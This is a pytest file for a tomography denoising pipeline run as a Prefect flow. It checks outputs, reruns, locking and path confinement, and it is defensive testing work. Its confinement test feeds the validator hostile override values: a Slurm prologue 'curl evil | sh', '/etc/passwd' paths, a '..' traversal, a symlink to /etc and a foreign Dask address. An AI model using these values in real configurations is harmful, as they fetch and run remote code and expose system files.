"""The pipeline as a Prefect flow against a real (temporary) Prefect server."""

import json

import numpy as np
import pytest
import xarray as xr

from tomodenoise.config import ModelConfig, RunConfig
from tomodenoise.simulate.scan import simulate_foam_scan


@pytest.fixture(scope="module")
def tiny_scan(tmp_path_factory):
    d = tmp_path_factory.mktemp("scan")
    return simulate_foam_scan(d / "foam.h5", size=32, n_angles=48, n_slices=3, i0=200.0, seed=1, n_spheres=60)


def _cfg(scan, out):
    cfg = RunConfig()
    cfg.input.path = str(scan)
    cfg.output.root = str(out)
    cfg.recon.z_chunk = 2
    cfg.model = ModelConfig(name="msd", params={"depth": 4, "width": 1})
    cfg.train.epochs = 2
    cfg.train.patch_size = 16
    cfg.train.patches_per_slice = 1  # a few steps an epoch (not the recipe's ~100)
    cfg.train.progress = False
    cfg.output.previews = 1
    return cfg


def test_pipeline_flow_writes_store_model_and_report(tiny_scan, tmp_path, monkeypatch):
    from prefect.client.orchestration import get_client

    from flows.pipeline import pipeline_flow
    from tomodenoise.cluster import DaskCluster

    started = []
    address = DaskCluster.address

    def counted(self):
        if self.cluster is None:
            started.append(self.compute.cluster)
        return address(self)

    monkeypatch.setattr(DaskCluster, "address", counted)
    cfg = _cfg(tiny_scan["scan"], tmp_path)
    state = pipeline_flow(config=cfg, reference=str(tiny_scan["reference"]), return_state=True)
    assert state.is_completed(), state
    # one Dask cluster at a time: closed while the network trains (a local one), started again to denoise
    assert started == ["local", "local"]
    result = state.result()
    root = tmp_path / "foam"
    assert result["store"] == str(root)
    ds = xr.open_zarr(root / "scan.zarr")
    assert ds.recon.dims == ("split", "time", "channel", "z", "y", "x")
    assert ds.recon.shape == (4, 1, 1, 3, 32, 32)
    assert ds.denoised.shape == (1, 1, 3, 32, 32)
    assert np.isfinite(ds.denoised.values).all()
    assert set(ds.attrs["stages"]) == {"ingest", "reconstruct", "train", "denoise", "report"}
    assert ds.attrs["config"]["splits"]["k"] == 4
    # the mean of the split FBPs in the store is the full FBP of the raw data
    metrics = json.loads((root / "report" / "metrics.json").read_text())
    assert np.isfinite(metrics["fbp"]["psnr"]) and np.isfinite(metrics["denoised"]["psnr"])
    assert (root / "model" / "best.pt").exists()
    assert list((root / "report").glob("preview_z*.png"))

    import asyncio

    root_run = state.state_details.flow_run_id

    async def task_names():
        # Only this run's tasks (its own and its subflows'): the server is shared by the session.
        from prefect.client.schemas.filters import (
            FlowRunFilter,
            FlowRunFilterParentFlowRunId,
            TaskRunFilter,
            TaskRunFilterFlowRunId,
        )

        async with get_client() as client:
            subflows = await client.read_flow_runs(
                flow_run_filter=FlowRunFilter(parent_flow_run_id=FlowRunFilterParentFlowRunId(any_=[root_run]))
            )
            ids = [root_run] + [f.id for f in subflows]
            tasks = await client.read_task_runs(task_run_filter=TaskRunFilter(flow_run_id=TaskRunFilterFlowRunId(any_=ids)))
        return [t.name for t in tasks]

    names = asyncio.run(task_names())
    # 8 chunks (4 splits x 2 slabs) in about 3 tasks per worker x 2 workers: groups of 2 chunks
    assert sum(n.startswith("recon-t") for n in names) == 4
    assert sum(n.startswith("denoise-t") for n in names) >= 1
    assert any(n.startswith("report") for n in names)


def test_rerun_skips_completed_stages(tiny_scan, tmp_path):
    from flows.pipeline import pipeline_flow

    cfg = _cfg(tiny_scan["scan"], tmp_path)
    pipeline_flow(config=cfg)
    stages = xr.open_zarr(tmp_path / "foam" / "scan.zarr").attrs["stages"]
    mtime = (tmp_path / "foam" / "model" / "best.pt").stat().st_mtime_ns
    pipeline_flow(config=cfg)
    again = xr.open_zarr(tmp_path / "foam" / "scan.zarr").attrs["stages"]
    for stage in ("ingest", "reconstruct", "train", "denoise"):
        assert again[stage]["finished"] == stages[stage]["finished"]
    assert (tmp_path / "foam" / "model" / "best.pt").stat().st_mtime_ns == mtime


def test_pipeline_refuses_a_scan_outside_the_input_roots(tiny_scan, tmp_path, monkeypatch):
    from flows.pipeline import pipeline_flow
    from tomodenoise.paths import confined_config as resolve_config
    from tomodenoise.paths import PathNotAllowed

    monkeypatch.setenv("TOMODENOISE_INPUT_ROOTS", str(tmp_path / "allowed"))
    out = tmp_path / "out"
    with pytest.raises(PathNotAllowed):
        pipeline_flow(scan=str(tiny_scan["scan"]), config=_cfg(tiny_scan["scan"], out))
    assert not out.exists()
    # overrides are merged over the configuration and validated strictly
    monkeypatch.delenv("TOMODENOISE_INPUT_ROOTS")
    cfg = resolve_config(_cfg(tiny_scan["scan"], out), None, {"train": {"epochs": 7}})
    assert cfg.train.epochs == 7 and cfg.train.patch_size == 16
    with pytest.raises(ValueError):
        resolve_config(cfg, None, {"train": {"epoch": 7}})


def test_every_path_of_a_run_is_confined_in_service_mode(tiny_scan, tmp_path, monkeypatch):
    from tomodenoise.paths import confined_config as resolve_config
    from tomodenoise.paths import PathNotAllowed

    scan_dir = tiny_scan["scan"].parent
    monkeypatch.setenv("TOMODENOISE_INPUT_ROOTS", str(scan_dir))
    monkeypatch.setenv("TOMODENOISE_OUTPUT_ROOTS", str(tmp_path / "out"))
    cfg = _cfg(tiny_scan["scan"], tmp_path / "out")
    assert resolve_config(cfg, None, None).output.root == str((tmp_path / "out").resolve())
    for overrides in ({"output": {"root": str(tmp_path / "elsewhere")}},
                      {"input": {"angles_file": "/etc/passwd"}},
                      {"input": {"flats": "/etc"}},
                      {"input": {"darks": str(tmp_path / "out" / ".." / "elsewhere" / "*.tif")}},
                      {"train": {"resume": "/etc/passwd"}},
                      {"train": {"init_from": "/etc/passwd"}},
                      {"compute": {"slurm": {"job_script_prologue": ["curl evil | sh"]}}},
                      {"compute": {"address": "tcp://elsewhere:8786"}}):
        with pytest.raises(PathNotAllowed):
            resolve_config(cfg, None, overrides)
    # a glob of flats inside a root whose match is a symlink leading out of it
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "link").symlink_to("/etc")
    monkeypatch.setenv("TOMODENOISE_INPUT_ROOTS", f"{scan_dir}:{raw}")
    assert resolve_config(cfg, None, {"input": {"flats": str(raw / "*.tif")}}).input.flats == str(raw / "*.tif")
    with pytest.raises(PathNotAllowed):
        resolve_config(cfg, None, {"input": {"flats": str(raw / "*" / "passwd")}})


def test_two_runs_of_one_scan_take_turns(tiny_scan, tmp_path):
    """A repeated event or a watcher racing an API call: two processes run the same scan at once.

    The second waits for the first (the per-store lock), so their stages never overlap.
    """
    import asyncio
    import os
    import subprocess
    import sys

    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterParentFlowRunId
    from prefect.settings import PREFECT_API_URL

    cfg = _cfg(tiny_scan["scan"], tmp_path / "out")
    cfg.compute.cluster = "threads"
    cfg_file = cfg.save(tmp_path / "run.yaml")
    env = dict(os.environ, PREFECT_API_URL=PREFECT_API_URL.value())
    cmd = [sys.executable, "-m", "tomodenoise.cli", "run", str(tiny_scan["scan"]), "--out", cfg.output.root,
           "-c", str(cfg_file)]
    procs = [subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    errs = [p.communicate(timeout=300)[1] for p in procs]
    assert [p.returncode for p in procs] == [0, 0], errs

    async def spans():
        async with get_client() as client:
            roots = [r for r in await client.read_flow_runs(limit=200)
                     if r.parent_task_run_id is None and (r.parameters.get("config") or {}).get("output", {}).get("root")
                     == cfg.output.root]
            out = []
            for root in roots:
                subs = await client.read_flow_runs(
                    flow_run_filter=FlowRunFilter(parent_flow_run_id=FlowRunFilterParentFlowRunId(any_=[root.id])))
                out.append((min(r.start_time for r in subs), max(r.end_time for r in subs)))
            return out

    found = asyncio.run(spans())
    assert len(found) == 2, found
    first, second = sorted(found)
    assert second[0] >= first[1], f"the two runs' stages overlapped: {found}"
